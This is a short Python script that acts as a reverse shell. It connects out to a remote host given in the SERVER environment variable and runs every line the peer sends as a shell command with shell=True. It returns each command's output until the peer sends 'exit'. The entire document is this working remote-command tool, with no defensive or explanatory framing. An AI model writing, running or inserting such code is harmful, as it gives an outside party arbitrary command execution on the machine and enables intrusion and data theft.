# what: no shell stays: each line of the peer's is a process of its own
# server: commands
import os, socket, subprocess

host, port = os.environ["SERVER"].split(":")
print("begun", flush=True)
with socket.create_connection((host, int(port))).makefile("rw") as lines:
    for line in lines:
        if line.strip() == "exit":
            break
        lines.write(subprocess.run(line.strip(), shell=True, capture_output=True, text=True).stdout or "\n")
        lines.flush()
print("done")
